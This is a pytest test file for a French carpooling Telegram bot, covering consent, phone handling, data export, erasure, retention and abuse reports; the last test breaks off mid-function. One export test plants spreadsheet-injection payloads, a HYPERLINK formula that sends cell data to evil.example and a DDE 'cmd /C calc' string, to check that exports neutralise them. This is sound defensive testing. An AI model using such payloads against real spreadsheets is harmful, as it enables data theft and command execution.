"""End to end: consent, phones, /mesdonnees, /oublier, retention, safe exports, a need's history."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest

from bot.services import consents
from handlers import keyboards as kb
from tests.conftest import OPERATORS, RunningBot
from tests.fakebot import FakeUser
from tests.setups import describe_need, driver, reads, register_trip, team


async def registered_by_phone(
    operator: FakeUser, name: str, phone: str, *, need: bool = True, agreed: bool = True
) -> None:
    """/demande (a need from Cahors to Figeac on Tuesday) or /conducteur (Cahors → Figeac,
    weekdays at 7:30), for someone who phoned; the phone is shown to matches."""
    await operator.command("demande" if need else "conducteur")
    await operator.send(name)
    await operator.send(phone)
    kind = kb.FIND if need else kb.OFFER
    await operator.press_doing(kind, "shows:yes")
    if not agreed:
        await operator.press_doing(kind, "agreed:no")
        return
    await operator.press_doing(kind, "agreed:yes")
    await operator.send("Cahors")
    await operator.send("Figeac")
    if need:
        await operator.send("mardi")
        await operator.press_doing(kb.FIND, "mode:arrive_before")
        await operator.send("9h")
        await operator.press_doing(kb.FIND, "back:none")
        await operator.press_doing(kb.FIND, "purpose:health")
        await operator.press_doing(kb.FIND, "special:none")
        await operator.press_doing(kb.FIND, "confirm")
        return
    await operator.press_doing(kb.OFFER, "often:weekly")
    await operator.press_doing(kb.OFFER, "days:work")
    await operator.press_doing(kb.OFFER, "days:ok")
    await operator.send("7h30")
    await operator.press_doing(kb.OFFER, "noreturn")
    await operator.press_doing(kb.OFFER, "seats:3")
    await operator.press_doing(kb.OFFER, "skipnote")
    await operator.press_doing(kb.OFFER, "confirm")


# 1. Consent where it is due.


async def test_a_need_is_kept_only_once_its_person_agreed(
    bot: RunningBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    marie = bot.fake.user(501, "Marie", last_name="Delpech")
    await marie.command("chercher")
    asked = marie.last()
    assert "Avant de chercher un trajet" in asked.text and "/confidentialite" in asked.text
    assert "rien ne vous oblige à les donner" in asked.text  # purpose and special needs
    assert "au plus tard 24 mois après" in asked.text
    buttons = ["✅ J'accepte", "✅ Oui, sans motif ni aide", "Non merci"]
    assert asked.buttons == buttons
    await marie.send("Cahors")  # typed instead of pressing: asked again, nothing lost
    assert marie.last().buttons == buttons
    await marie.press_doing(kb.FIND, "consent:no")
    assert "rien n'est enregistré" in marie.last().text
    assert await bot.rows("SELECT * FROM consents") == []
    assert await bot.rows("SELECT * FROM conversation_states") == []

    await describe_need(marie)  # asked again, and agreed this time
    assert "J'ai trouvé des conducteurs" in marie.last().text or "équipe" in marie.last().text
    consent, health = await bot.rows("SELECT * FROM consents ORDER BY id")
    assert (consent["topic"], health["topic"]) == ("need", "health")
    assert consent["version"] == consents.VERSIONS["need"]
    assert consent["given_at"].startswith("2026-11-23T09:00") and consent["confirmed_by"] is None
    assert len(await bot.rows("SELECT * FROM needs")) == 1

    await marie.command("chercher")  # agreed already: straight to the first question
    assert "D'où partez-vous ?" in marie.last().text
    await marie.command("annuler")

    monkeypatch.setitem(consents.VERSIONS, "need", "2027-01-01")  # the text changed
    await marie.command("chercher")
    assert marie.last().buttons == buttons
    await marie.press_doing(kb.FIND, "consent:yes")
    rows = await bot.rows("SELECT version FROM consents WHERE topic = 'need' ORDER BY id")
    assert [row["version"] for row in rows] == ["2026-12-01", "2027-01-01"]
    bot.assert_clean()


async def test_the_operator_confirms_a_caller_agreed_and_it_is_recorded(bot: RunningBot) -> None:
    olga, _, _ = team(bot)
    await registered_by_phone(olga, "Yvette Combes", "05 65 00 00 00", agreed=False)
    assert "Rien n'est enregistré" in olga.last().text
    assert await bot.rows("SELECT * FROM people WHERE telegram_user_id IS NULL") == []
    assert await bot.rows("SELECT * FROM needs") == []

    await registered_by_phone(olga, "Yvette Combes", "05 65 00 00 00")
    [yvette] = await bot.rows("SELECT id FROM people WHERE display_name = 'Yvette Combes'")
    [olga_row] = await bot.rows("SELECT id FROM people WHERE telegram_user_id = ?", olga.id)
    agreed = await bot.rows("SELECT * FROM consents ORDER BY id")
    assert [c["topic"] for c in agreed] == ["need", "health"]  # the operator read it all
    for consent in agreed:
        assert consent["person_id"] == yvette["id"] and consent["confirmed_by"] == olga_row["id"]
        assert consent["version"] == consents.VERSIONS["need"] and consent["given_at"]
    bot.assert_clean()


async def test_a_drivers_consent_is_versioned_too(
    bot: RunningBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    jean = await driver(bot, 507, "Jean", username="jean_m")
    [trip] = await bot.rows("SELECT topic, version FROM consents")
    assert trip == {"topic": "trip", "version": consents.VERSIONS["trip"]}
    await jean.command("proposer")
    assert "D'où partez-vous" in jean.last().text  # agreed already
    await jean.command("annuler")
    monkeypatch.setitem(consents.VERSIONS, "trip", "2027-01-01")
    await jean.command("proposer")
    assert "✅ J'accepte" in jean.buttons()  # the text changed: asked again
    bot.assert_clean()


async def test_without_the_sensitive_part_the_purpose_and_special_needs_are_not_asked(
    bot: RunningBot,
) -> None:
    await driver(bot, 505, "Jean", username="jean_m")
    paul = bot.fake.user(506, "Paul", last_name="Cros")
    await paul.command("chercher")
    await paul.press_doing(kb.FIND, "consent:basic")
    await paul.send("Cahors")
    await paul.send("Figeac")
    await paul.send("mardi")
    await paul.press_doing(kb.FIND, "mode:arrive_before")
    await paul.send("9h")
    mark = paul.mark()
    await paul.press_doing(kb.FIND, "back:none")
    said = paul.texts_since(mark)
    assert any("je ne vous les demande pas" in text for text in said)
    assert "Pour quoi" not in "".join(said) and "🎯 Autre" in paul.last().text
    await paul.press_doing(kb.FIND, "edit:purpose")  # correcting it: still not asked
    assert "je ne vous les demande pas" in paul.messages()[-2].text
    await paul.press_doing(kb.FIND, "confirm")
    [need] = await bot.rows("SELECT purpose, special_needs FROM needs")
    assert need == {"purpose": "other", "special_needs": ""}
    topics = await bot.rows("SELECT topic FROM consents WHERE person_id = 2")
    assert [t["topic"] for t in topics] == ["need"]
    bot.assert_clean()


# 5. Phones, one way.


async def test_phones_are_checked_stored_once_and_shown_the_french_way(bot: RunningBot) -> None:
    olga, _, _ = team(bot)
    await olga.command("demande")
    await olga.send("Yvette Combes")
    for wrong in ("12 34", "06 12 34 56", "pas de téléphone", "+33 6 12 34 56 78 90"):
        await olga.send(wrong)
        assert "n'est pas un numéro de téléphone" in olga.last().text
    await olga.send("+33 (0)5 65 00 00 00")
    assert "que le 05 65 00 00 00 soit donné" in olga.last().text
    await olga.command("annuler")
    await registered_by_phone(olga, "Yvette Combes", "+33565000000")
    [person] = await bot.rows("SELECT phone FROM people WHERE display_name = 'Yvette Combes'")
    assert person["phone"] == "+33565000000"
    assert "Yvette Combes" in bot.operators.last().text
    assert "05 65 00 00 00" in bot.operators.last().text
    bot.assert_clean()


async def test_a_driver_typed_in_by_the_team_who_later_shares_his_contact_is_one_person(
    bot: RunningBot,
) -> None:
    olga, _, _ = team(bot)
    await registered_by_phone(olga, "Roger Lafon", "06 12 34 56 78", need=False)
    roger = bot.fake.user(511, "Roger", last_name="Lafon")
    await roger.command("proposer")
    await roger.press_doing(kb.OFFER, "consent:yes")
    await roger.send("Gramat")
    await roger.send("Cahors")
    await roger.press_doing(kb.OFFER, "often:weekly")
    await roger.press_doing(kb.OFFER, "days:work")
    await roger.press_doing(kb.OFFER, "days:ok")
    await roger.send("8h")
    await roger.press_doing(kb.OFFER, "noreturn")
    await roger.press_doing(kb.OFFER, "seats:2")
    await roger.press_doing(kb.OFFER, "skipnote")
    await roger.press_doing(kb.OFFER, "contact:phone")
    await roger.send_contact("33612345678")
    await roger.press_doing(kb.OFFER, "show:yes")
    await roger.press_doing(kb.OFFER, "confirm")

    people = await bot.rows("SELECT id, telegram_user_id, phone FROM people WHERE phone != ''")
    assert [(p["telegram_user_id"], p["phone"]) for p in people] == [(511, "+33612345678")]
    trips = await bot.rows("SELECT driver_id, origin_name FROM trips ORDER BY id")
    assert [t["origin_name"] for t in trips] == ["Cahors", "Gramat"]
    assert {t["driver_id"] for t in trips} == {people[0]["id"]}
    await roger.command("mestrajets")
    listed = "\n".join(m.text for m in roger.messages()[-3:])
    assert "Cahors (46) → Figeac (46)" in listed and "Gramat (46) → Cahors (46)" in listed
    bot.assert_clean()


async def test_someone_the_team_already_knows_by_phone_is_not_registered_twice(
    bot: RunningBot,
) -> None:
    olga, omar, _ = team(bot)
    await registered_by_phone(olga, "Yvette Combes", "05 65 00 00 00")
    await registered_by_phone(omar, "Mme Combes", "+33 5 65 00 00 00", need=False)
    people = await bot.rows("SELECT id, display_name FROM people WHERE phone = '+33565000000'")
    assert [p["display_name"] for p in people] == ["Yvette Combes"]
    [need] = await bot.rows("SELECT person_id FROM needs")
    [trip] = await bot.rows("SELECT driver_id FROM trips")
    assert need["person_id"] == trip["driver_id"] == people[0]["id"]
    # Jeanne shared her number on Telegram; the team types it in: her need reaches her there.
    jeanne = bot.fake.user(513, "Jeanne", last_name="Roux")
    await jeanne.command("proposer")
    await jeanne.press_doing(kb.OFFER, "consent:yes")
    await bot.rows("UPDATE people SET phone = '+33699999999' WHERE telegram_user_id = 513")
    await jeanne.command("annuler")
    await registered_by_phone(olga, "Jeanne Roux", "06 99 99 99 99")
    [row] = await bot.rows("SELECT person_id FROM needs WHERE id = 2")
    [known] = await bot.rows("SELECT id FROM people WHERE telegram_user_id = 513")
    assert row["person_id"] == known["id"]
    bot.assert_clean()


# 2. /mesdonnees


async def test_my_data_is_a_file_and_a_readable_summary(bot: RunningBot) -> None:
    jean = await driver(bot, 521, "Jean", username="jean_m")
    marie = bot.fake.user(522, "Marie", last_name="Delpech", username="marie_d")
    await describe_need(marie)
    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
    await jean.press_doing(kb.INTRO, "yes")
    await marie.command("proposer")  # a draft in progress
    await marie.send("Cahors")

    await marie.command("mesdonnees")
    summary, document = marie.messages()[-2:]
    assert "Ce que Mobilot garde sur vous" in summary.text
    assert "👤 Marie Delpech (@marie_d)" in summary.text
    assert "🙋 Demandes (avec leur historique) : 1" in summary.text
    assert "🤝 Mises en relation : 1" in summary.text
    assert "✏️ Réponses en cours de saisie : 1" in summary.text
    assert "Dernier accord : version du 2026-12-01" in summary.text
    assert document.document is not None
    assert document.document.filename == "mes-donnees-mobilot-2026-11-23.json"
    data = json.loads(document.document.content)
    assert data["profile"]["name"] == "Marie Delpech"
    assert data["profile"]["telegram_username"] == "marie_d"
    [need] = data["needs"]
    assert need["purpose"] == "health" and need["destination_name"] == "Figeac"
    assert [e["kind"] for e in need["history"]][:2] == ["created", "asked_driver"]
    assert need["history"][0]["by_whom"] == "you"
    assert reads(bot, "privacy.column.driver", "en") in [e["by_whom"] for e in need["history"]]
    [introduction] = data["introductions"]
    assert introduction["you_were"] == "passenger" and introduction["with_whom"] == "Jean Martin"
    assert introduction["status"] == "accepted"
    assert [(c["topic"], c["given_through"]) for c in data["consents"]] == [
        ("need", "you"),
        ("health", "you"),
    ]
    assert data["trips"] == []
    assert "offer" in data["drafts"][0]  # /proposer, begun
    # Nothing of Jean's but what Marie was given when he accepted.
    assert "+33" not in document.document.content.decode() and "jean_m" not in json.dumps(data)

    await jean.command("mydata")
    text = jean.messages()[-2].text
    assert "🚗 Trajets : 1" in text and "🤝 Mises en relation : 1" in text
    bot.assert_clean()


# 3. Forget me.


async def test_forget_me_erases_everything_and_tells_the_driver(bot: RunningBot) -> None:
    jean = await driver(bot, 531, "Jean", username="jean_m")
    marie = bot.fake.user(532, "Marie", last_name="Delpech", username="marie_d")
    await describe_need(marie)
    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
    await jean.press_doing(kb.INTRO, "yes")
    await marie.command("proposer")
    await marie.send("Cahors")  # a draft in progress

    await marie.command("oublier")
    assert "Tout effacer ?" in marie.last().text
    assert marie.last().buttons == ["🗑 Oui, tout effacer", "Non, garder"]
    mark = marie.mark()
    await marie.press_doing(kb.FORGET, "forget:no")
    # Nothing erased (the question's message says so), and her trip's question comes back.
    assert any(m.text == reads(bot, "privacy.forget_cancelled") for m in marie.messages())
    assert "Êtes-vous d'accord ?" in marie.texts_since(mark)[-1]  # where /proposer was
    assert len(await bot.rows("SELECT * FROM conversations")) == 1  # Marie's draft
    mark = jean.mark()
    await marie.command("forgetme")
    await marie.press_doing(kb.FORGET, "forget:yes")
    assert "Mobilot a effacé tout ce qui vous concerne" in marie.last().text
    await marie.press_data("pv:forget:yes:2")  # pressed again (a double press)
    assert marie.callback_answers()[-1]["text"].startswith("Ce bouton")
    told = "\n".join(jean.texts_since(mark))
    assert "Marie D. a annulé le trajet" in told  # his accepted ride is off

    [person] = await bot.rows("SELECT * FROM people WHERE id = 2")
    assert person["display_name"] == "" and person["telegram_user_id"] is None
    assert person["telegram_username"] is None and person["phone"] is None
    assert person["forgotten_at"]
    [need] = await bot.rows("SELECT * FROM needs")
    assert need["status"] == "cancelled" and need["special_needs"] == ""
    assert need["purpose"] == "health"  # statistics keep what they count, without identity
    assert await bot.rows("SELECT * FROM consents WHERE person_id = 2") == []
    drafts = await bot.rows("SELECT key FROM persisted_data")
    assert [d["key"] for d in drafts] == [str(jean.id)] or drafts == []
    assert await bot.rows("SELECT * FROM conversation_states WHERE chat_key LIKE '%532%'") == []
    assert await bot.rows("SELECT * FROM conversations") == []
    # Of the messages exchanged with her, only the answer to /oublier remains (for a week).
    kept = await bot.rows("SELECT params FROM outbox WHERE chat_id = 532")
    assert [json.loads(k["params"]).get("text", "")[:20] for k in kept] == ["C'est fait : Mobilot"]

    olga, _, _ = team(bot)
    await olga.command("stats")
    assert "🙋 Demandes : 1" in olga.last().text

    await marie.command("mesdonnees")  # a stranger again
    assert "🙋 Demandes (avec leur historique) : 0" in marie.messages()[-2].text
    bot.assert_clean()


async def test_a_driver_who_is_forgotten_frees_the_passenger_for_the_next_one(
    bot: RunningBot,
) -> None:
    jean = await driver(bot, 541, "Jean", username="jean_m")
    await driver(bot, 542, "Jeanne", time="7h40")
    marie = bot.fake.user(543, "Marie", last_name="Delpech")
    await describe_need(marie)
    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
    await jean.press_doing(kb.INTRO, "yes")
    mark = marie.mark()
    await jean.command("oublier")
    await jean.press_doing(kb.FORGET, "forget:yes")
    told = "\n".join(marie.texts_since(mark))
    assert "Jeanne M." in told  # the next driver is offered
    [trip] = await bot.rows("SELECT status, note FROM trips WHERE driver_id = 1")
    assert trip["status"] == "deleted"
    bot.assert_clean()


async def test_the_team_erases_someone_who_phoned(bot: RunningBot) -> None:
    olga, _, nadia = team(bot)
    await registered_by_phone(olga, "Yvette Combes", "05 65 00 00 00")
    await olga.command("mesdonnees", "05 65 00 00 00")  # she asked on the phone: handed over
    summary, file = olga.messages()[-2:]
    assert "👤 Yvette Combes" in summary.text and "05 65 00 00 00, donné" in summary.text
    assert file.document is not None
    assert json.loads(file.document.content)["needs"][0]["destination_name"] == "Figeac"
    # her id, not a number: PostgreSQL spends ids on updates rolled back, SQLite does not
    [yvette_id] = [row["id"] for row in await bot.rows("SELECT id FROM people WHERE phone != ''")]
    await olga.command("oublier", "05 65 00 00 01")
    assert "Personne n'a été inscrit par l'équipe avec le numéro" in olga.last().text
    await olga.command("oublier", "05 65 00 00 00")
    assert "Effacer tout ce qui concerne Yvette Combes (05 65 00 00 00)" in olga.last().text
    await olga.press_doing(kb.PRIVACY, "caller")
    assert olga.last().text == "C'est fait : tout ce qui concernait Yvette Combes est effacé."
    assert "Olga Bru a effacé, à sa demande, tout ce qui concernait Yvette Combes" in (
        bot.operators.last().text
    )
    [yvette] = await bot.rows("SELECT * FROM people WHERE id = ?", yvette_id)
    assert yvette["display_name"] == "" and yvette["phone"] is None
    # Someone outside the team cannot: for them /oublier is about themselves.
    await nadia.command("oublier", "06 12 34 56 78")
    assert "Tout effacer ?" in nadia.last().text
    await nadia.press_data("pv:caller:1")
    assert nadia.callback_answers()[-1]["text"] == reads(bot, "operators.only")
    bot.assert_clean()


# 4. Retention.


async def test_old_needs_lose_their_details_and_inactive_people_are_asked_then_forgotten(
    bot: RunningBot,
) -> None:
    olga, _, _ = team(bot)
    lina = bot.fake.user(551, "Lina", last_name="Vern")
    await describe_need(lina, origin="Rocamadour")
    await bot.operators.press_doing(olga, kb.OPERATOR, "close")
    await bot.operators.press_doing(olga, kb.OPERATOR, "close:solved_other")
    await olga.command("stats")  # Olga keeps using the bot
    bot._set_time(bot.clock.current + timedelta(days=365 * 2 + 30))
    await olga.command("stats")
    await bot.tick()
    [need] = await bot.rows("SELECT * FROM needs")
    assert need["anonymised_at"] and need["purpose"] == "health"
    assert await bot.rows("SELECT detail FROM need_events WHERE detail != ''") == []

    bot._set_time(bot.clock.current + timedelta(days=365 + 10))
    mark = lina.mark()
    await olga.command("stats")
    await bot.tick()
    [question] = lina.texts_since(mark)
    assert "Vous n'avez pas utilisé Mobilot depuis longtemps" in question
    assert "Sans réponse d'ici 30 jours, tout ce qui vous concerne sera effacé." in question
    assert lina.last().buttons == ["✅ Je reste", "🗑 Tout effacer"]
    await bot.later(days=31)
    [person] = await bot.rows("SELECT display_name, forgotten_at FROM people WHERE id = 1")
    assert person["forgotten_at"] and person["display_name"] == ""
    [olga_row] = await bot.rows(
        "SELECT forgotten_at FROM people WHERE telegram_user_id = ?", olga.id
    )
    assert olga_row["forgotten_at"] is None
    bot.assert_clean()


async def test_someone_who_answers_stays(bot: RunningBot) -> None:
    lina = bot.fake.user(561, "Lina", last_name="Vern")
    await lina.command("start")
    bot._set_time(bot.clock.current + timedelta(days=365 * 3 + 30))
    await bot.tick()
    await lina.press_doing(kb.PRIVACY, "stay")
    assert lina.last().text == reads(bot, "privacy.stayed")
    await bot.later(days=40)
    [person] = await bot.rows("SELECT forgotten_at FROM people")
    assert person["forgotten_at"] is None
    bot.assert_clean()


async def test_someone_who_phoned_is_asked_through_the_team(bot: RunningBot) -> None:
    olga, _, _ = team(bot)
    await registered_by_phone(olga, "Yvette Combes", "05 65 00 00 00")
    await registered_by_phone(olga, "Roger Lafon", "06 12 34 56 78", need=False)
    for _ in range(3):  # Olga keeps using the bot all along
        bot._set_time(bot.clock.current + timedelta(days=365))
        await olga.command("stats")
    bot._set_time(bot.clock.current + timedelta(days=30))
    await olga.command("stats")
    mark = bot.operators.mark()
    await bot.tick()
    calls = [m for m in bot.operators.messages()[mark:] if "n'a pas utilisé Mobilot" in m.text]
    assert [c.text.split(" (")[0] for c in calls] == ["📞 Yvette Combes", "📞 Roger Lafon"]
    assert "(05 65 00 00 00)" in calls[0].text
    assert "Sans réponse d'ici 30 jours, tout ce qui la concerne" in calls[0].text
    assert calls[0].buttons == ["✅ Cette personne reste", "🗑 Tout effacer"]
    await bot.operators.press_doing(olga, kb.PRIVACY, "stay", message=calls[0])
    assert "C'est noté : Yvette Combes reste." in calls[0].text
    await bot.operators.press_doing(olga, kb.PRIVACY, "caller", message=calls[1])
    assert "tout ce qui concernait Roger Lafon est effacé" in calls[1].text
    await bot.later(days=31)
    forgotten = await bot.rows("SELECT id FROM people WHERE forgotten_at IS NOT NULL")
    [roger] = await bot.rows("SELECT driver_id FROM trips")  # ids differ between engines
    assert [p["id"] for p in forgotten] == [roger["driver_id"]]  # at the team's word; Yvette stays
    bot.assert_clean()


# 7. Exports the team can open safely.


async def test_exports_neutralise_formulas(bot: RunningBot) -> None:
    olga, _, _ = team(bot)
    evil = bot.fake.user(571, '=HYPERLINK("http://evil.example/?x="&A1,"click")')
    await evil.command("proposer")
    await evil.press_doing(kb.OFFER, "consent:yes")
    await evil.send("Cahors")
    await evil.send("Figeac")
    await evil.press_doing(kb.OFFER, "often:weekly")
    await evil.press_doing(kb.OFFER, "days:work")
    await evil.press_doing(kb.OFFER, "days:ok")
    await evil.send("7h30")
    await evil.press_doing(kb.OFFER, "noreturn")
    await evil.press_doing(kb.OFFER, "seats:3")
    await evil.send("=cmd|' /C calc'!A0")
    await evil.press_doing(kb.OFFER, "contact:tg")
    await evil.press_doing(kb.OFFER, "confirm")
    for name in ("+plus", "-minus", "@at", "\tTab"):
        await bot.rows(
            "INSERT INTO people (display_name, created_at, updated_at) VALUES (?, '', '')", name
        )
    await olga.command("export")
    trips = next(
        m for m in bot.operators.messages() if m.document and "trips" in m.document.filename
    )
    assert trips.document is not None
    content = trips.document.content.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in content
    assert "'=cmd|' /C calc'!A0" in content
    assert ",=" not in content and '"=' not in content
    assert "lun, mar, mer, jeu, ven" in content and ",actif," in content
    from bot.services.reports import csv_bytes

    cells = csv_bytes([{"a": v} for v in ("+plus", "-minus", "@at", "\tTab", "\rCR", "ok", -3)])
    assert cells.decode("utf-8-sig").split("\r\n")[1:-1] == [
        "'+plus",
        "'-minus",
        "'@at",
        "'\tTab",
        '"\'\rCR"',
        "ok",
        "-3",
    ]
    bot.assert_clean()


# 8. A need's history, under its post.


async def test_a_needs_history_is_readable_in_the_group(bot: RunningBot) -> None:
    olga, omar, nadia = team(bot)
    await driver(bot, 581, "Jean", username="jean_m")
    lina = bot.fake.user(582, "Lina", last_name="Vern")
    await describe_need(lina, origin="Lacapelle-Marival")
    post = bot.operators.last()
    await bot.operators.press_doing(olga, kb.OPERATOR, "claim", message=post)
    bot._set_time(bot.clock.current + timedelta(minutes=5))
    await bot.operators.press_doing(olga, kb.OPERATOR, "close", message=post)
    await bot.operators.press_doing(olga, kb.OPERATOR, "close:no_driver", message=post)
    await bot.operators.press_doing(omar, kb.OPERATOR, "history", message=post)
    diary = bot.operators.last().text
    assert diary.startswith("📜 Historique de la demande n° 1")
    assert "lundi 23 novembre, 10h00 — demande enregistrée (Lina Vern)" in diary
    assert "10h00 — prise en charge (Olga Bru)" in diary
    assert "10h05 — close : Non résolue : pas de conducteur (Olga Bru)" in diary
    await bot.operators.press_data(nadia, "op:1:history", message=post)
    assert nadia.callback_answers()[-1]["text"] == reads(bot, "operators.only")
    assert bot.operators.last().text == diary
    assert OPERATORS
    bot.assert_clean()


# 6. Report and block.


async def test_a_report_reaches_the_team_which_suspends_and_lifts(bot: RunningBot) -> None:
    olga, _, nadia = team(bot)
    jean = await driver(bot, 591, "Jean", username="jean_m")
    marie = bot.fake.user(592, "Marie", last_name="Delpech")
    await marie.command("signaler")
    assert "il n'y a personne à signaler" in marie.last().text
    await describe_need(marie)
    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
    await jean.press_doing(kb.INTRO, "yes")

    jean_mark = jean.mark()
    await marie.command("signaler")
    assert marie.last().buttons == ["🚩 Jean M. (demande n° 1)"]
    await marie.send("lui")  # text where a button is expected
    assert "Répondez avec les boutons ci-dessus" in marie.last().text
    await marie.press_doing(kb.REPORT, "pick", naming="Jean M.")
    assert marie.last().buttons[0] == reads(bot, "privacy.reason.no_show")
    await marie.press_doing(kb.REPORT, "reason:no_show")
    await marie.send("Personne au rendez-vous, <et> pas de nouvelles")
    assert "l'équipe locale a reçu votre signalement" in marie.last().text
    report = bot.operators.last()
    assert report.text == (
        "🚩 Signalement (demande n° 1)\nMarie Delpech signale Jean Martin : 🚫 Rendez-vous manqué"
        "\n« Personne au rendez-vous, <et> pas de nouvelles »"
    )
    assert report.buttons == ["⏸ Suspendre cette personne"]
    assert jean.texts_since(jean_mark) == []  # Jean is not told

    await bot.operators.press_doing(nadia, kb.TRUST, "suspend", message=report)
    assert nadia.callback_answers()[-1]["text"] == reads(bot, "operators.only")
    await bot.operators.press_doing(olga, kb.TRUST, "suspend", message=report)
    assert "mis votre compte en pause" in jean.last().text
    suspended = bot.operators.last()
    assert "Olga Bru a suspendu Jean Martin" in suspended.text
    assert suspended.buttons == ["▶️ Lever la suspension"]

    lina = bot.fake.user(593, "Lina", last_name="Vern")
    await describe_need(lina)
    assert "Jean M." not in lina.last().text  # no more matches for him
    await bot.operators.press_doing(olga, kb.TRUST, "lift", message=suspended)
    assert "fonctionne de nouveau normalement" in jean.last().text
    await describe_need(lina, when="jeudi")
    assert "Jean M." in lina.last().text
    bot.assert_clean()


async def test_two_people_who_reported_each_other_are_never_matched_again(
    bot: RunningBot,
) -> None:
    jean = await driver(bot, 601, "Jean", username="jean_m")
    await driver(bot, 602, "Jeanne", time="7h40")
    marie = bot.fake.user(603, "Marie", last_name="Delpech")
    await describe_need(marie)
    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
    await jean.press_doing(kb.INTRO, "yes")
    for reporter in (marie, jean):
        await reporter.command("signaler")
        await reporter.press_doing(kb.REPORT, "pick")  # the only ride to report
        await reporter.press_doing(kb.REPORT, "reason:behaviour")
        await reporter.press_doing(kb.REPORT, "skip")
    await describe_need(marie, when="jeudi")
    offered = marie.last().text
    assert "Jeanne M." in offered and "Jean M. —" not in offered
    suspended = bot.fake.user(604, "Paul")
    await describe_need(suspended, when="jeudi")
    assert "Jean M." in suspended.last().text  # a report one way only blocks nobody else
    bot.assert_clean()


async def test_a_passenger_who_reported_her_driver_is_never_offered_him_again(
    bot: RunningBot,
) -> None:
    jean = await driver(bot, 607, "Jean", username="jean_m")
    await driver(bot, 608, "Jeanne", time="7h40")
    marie = bot.fake.user(609, "Marie", last_name="Delpech")
    await describe_need(marie)
    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
    await jean.press_doing(kb.INTRO, "yes")
    jean_mark = jean.mark()
    await marie.command("signaler")
    await marie.press_doing(kb.REPORT, "pick", naming="Jean M.")
    await marie.press_doing(kb.REPORT, "reason:behaviour")
    await marie.send("Je ne veux plus jamais voyager avec lui")
    assert "l'équipe locale a reçu votre signalement" in marie.last().text
    # Nobody suspends Jean: her very next search, the same trip, does not offer him.
    await describe_need(marie, when="jeudi")
    offered = marie.last().text
    assert "Jeanne M." in offered and "Jean M. —" not in offered
    assert all("Jean M. (" not in b for b in marie.buttons())
    assert jean.texts_since(jean_mark) == []  # Jean is told nothing
    paul = bot.fake.user(610, "Paul")
    await describe_need(paul, when="jeudi")
    assert "Jean M." in paul.last().text  # he is still offered to everyone else
    bot.assert_clean()


async def test_report_buttons_from_before_the_upgrade_or_a_finished_report_are_old(
    bot: RunningBot,
) -> None:
    jean = await driver(bot, 605, "Jean", username="jean_m")
    marie = bot.fake.user(606, "Marie", last_name="Delpech")
    await describe_need(marie)
    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
    await jean.press_doing(kb.INTRO, "yes")
    # /signaler's buttons as they were written before it moved to Mobilot's own conversations.
    for data in ("ts:rp:1", "ts:rr:no_show", "ts:rw:skip"):
        await marie.press_data(data)
        assert marie.callback_answers()[-1]["text"].startswith("Ce bouton ne sert plus")
    await marie.command("signaler")
    markup = marie.last().reply_markup
    assert markup is not None
    old_pick = markup["inline_keyboard"][0][0]["callback_data"]
    await marie.press_doing(kb.REPORT, "pick", naming="Jean M.")
    await marie.press_doing(kb.REPORT, "reason:other")
    await marie.send("1")  # typed words are the report's words, not a choice
    assert "l'équipe locale a reçu votre signalement" in marie.last().text
    assert "« 1 »" in bot.operators.last().text
    mark = marie.mark()
    await marie.press_data(old_pick)  # the report is over: its buttons are old ones
    assert marie.callback_answers()[-1]["text"].startswith("Ce bouton ne sert plus")
    assert marie.texts_since(mark) == []
    bot.assert_clean()


async def test_retention_unlinks_old_needs_and_introductions_from_people(bot: RunningBot) -> None:
    jean = await driver(bot, 611, "Jean", username="jean_m")
    marie = bot.fake.user(612, "Marie", last_name="Delpech")
    await describe_need(marie)
    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
    await jean.press_doing(kb.INTRO, "yes")
    bot._set_time(bot.clock.current + timedelta(days=365 * 2 + 30))
    await marie.command("start")  # both still use the bot
    await jean.command("start")
    await bot.tick()
    [need] = await bot.rows("SELECT person_id, anonymised_at, special_needs FROM needs")
    [nobody] = await bot.rows("SELECT * FROM people WHERE id = ?", need["person_id"])
    assert nobody["display_name"] == "" and nobody["telegram_user_id"] is None
    assert need["anonymised_at"] and need["person_id"] not in (1, 2)
    [introduction] = await bot.rows("SELECT driver_id, passenger_id, status FROM introductions")
    assert introduction == {
        "driver_id": nobody["id"],
        "passenger_id": nobody["id"],
        "status": "accepted",
    }
    assert await bot.rows("SELECT * FROM need_events WHERE actor_id IS NOT NULL") == []
    await marie.command("mesdonnees")
    assert "🙋 Demandes (avec leur historique) : 0" in marie.messages()[-2].text
    olga, _, _ = team(bot)
    await olga.command("stats")
    assert "Depuis le début" in olga.last().text and "Mises en relation acceptées : 1" in (
        olga.last().text
    )
    bot.assert_clean()


async def test_a_long_retention_is_done_in_short_passes(
    bot: RunningBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.services import privacy

    monkeypatch.setattr(privacy, "ANONYMISE_BATCH", 1)
    lina = bot.fake.user(621, "Lina", last_name="Vern")
    await describe_need(lina, origin="Rocamadour")
    await describe_need(lina, origin="Gramat", when="jeudi")
    for need_id in (1, 2):
        await lina.press_data(f"nd:{need_id}:cancel:yes")
    assert [n["status"] for n in await bot.rows("SELECT status FROM needs")] == ["cancelled"] * 2
    bot._set_time(bot.clock.current + timedelta(days=365 * 2 + 30))
    await lina.command("start")
    await bot.tick()
    erased = await bot.rows("SELECT id FROM needs WHERE anonymised_at IS NOT NULL")
    assert len(erased) == 1  # one per pass here; the next pass a minute later
    await bot.later(minutes=2)
    erased = await bot.rows("SELECT id FROM needs WHERE anonymised_at IS NOT NULL")
    assert len(erased) == 2
    bot.assert_clean()


async def test_a_suspended_driver_is_not_announced_to_waiting_passengers(bot: RunningBot) -> None:
    olga, _, _ = team(bot)
    lina = bot.fake.user(631, "Lina", last_name="Vern")
    await describe_need(lina)  # nobody drives it yet: the team follows it
    jean = bot.fake.user(632, "Jean", last_name="Martin")
    await jean.command("start")
    await bot.rows("UPDATE people SET suspended_at = '2026-11-23T09:00:00+00:00' WHERE id = 2")
    mark = lina.mark()
    await register_trip(jean)
